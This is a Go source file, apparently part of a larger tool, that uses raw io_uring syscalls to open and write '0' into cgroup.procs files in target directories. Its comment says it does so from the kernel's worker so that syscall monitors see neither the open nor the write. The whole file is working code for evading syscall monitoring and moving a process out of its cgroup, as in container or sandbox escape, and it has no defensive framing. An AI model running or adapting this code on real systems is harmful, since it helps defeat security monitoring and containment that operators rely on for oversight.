package main

import (
	"errors"
	"fmt"
	"path/filepath"
	"runtime"
	"sync/atomic"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Of linux/io_uring.h.
const (
	opOpenat  = 18
	opWrite   = 23
	ringEnter = 1 // IORING_ENTER_GETEVENTS
	offSQ     = 0
	offCQ     = 0x8000000
	offSQEs   = 0x10000000
)

type ringParams struct {
	sqEntries, cqEntries, flags, cpu, idle, features, wq uint32
	_                                                    [3]uint32
	sq                                                   struct {
		head, tail, mask, entries, flags, dropped, array, _ uint32
		_                                                   uint64
	}
	cq struct {
		head, tail, mask, entries, overflow, cqes, flags, _ uint32
		_                                                   uint64
	}
}

type ringEntry struct {
	op, flags uint8
	prio      uint16
	fd        int32
	off, addr uint64
	len, mode uint32
	_         [4]uint64
}

// ringWrite opens and writes cgroup.procs from the kernel's own worker: who
// watches system calls sees neither.
func ringWrite(a *attempt) error {
	var p ringParams
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&p)), 0)
	if errno != 0 {
		return fmt.Errorf("io_uring_setup: %w", errno)
	}
	ring := int(fd)
	defer unix.Close(ring)
	sq, err := unix.Mmap(ring, offSQ, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	cq, err := unix.Mmap(ring, offCQ, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	entries, err := unix.Mmap(ring, offSQEs, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	var last int32 // result
	one := func(e ringEntry) error {
		*(*ringEntry)(unsafe.Pointer(&entries[0])) = e
		word := func(m []byte, at uint32) *uint32 { return (*uint32)(unsafe.Pointer(&m[at])) }
		tail := word(sq, p.sq.tail)
		*word(sq, p.sq.array+4*(*tail&*word(sq, p.sq.mask))) = 0
		atomic.AddUint32(tail, 1)
		if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(ring), 1, 1, ringEnter, 0, 0); errno != 0 {
			return fmt.Errorf("io_uring_enter: %w", errno)
		}
		head := word(cq, p.cq.head)
		result := int32(*word(cq, p.cq.cqes+16*(*head&*word(cq, p.cq.mask))+8))
		atomic.AddUint32(head, 1)
		last = result
		if result < 0 {
			return syscall.Errno(-result)
		}
		return nil
	}
	var errs []error
	zero := []byte("0")
	for _, dir := range a.targets() {
		path := append([]byte(filepath.Join(dir, "cgroup.procs")), 0)
		err := one(ringEntry{op: opOpenat, fd: unix.AT_FDCWD, addr: uint64(uintptr(unsafe.Pointer(&path[0]))), mode: unix.O_WRONLY})
		runtime.KeepAlive(path)
		if err == nil {
			err = one(ringEntry{op: opWrite, fd: last, addr: uint64(uintptr(unsafe.Pointer(&zero[0]))), len: 1})
		}
		if err == nil {
			return a.linger()
		}
		errs = append(errs, fmt.Errorf("%s: %w", dir, err))
	}
	return errors.Join(errs...)
}
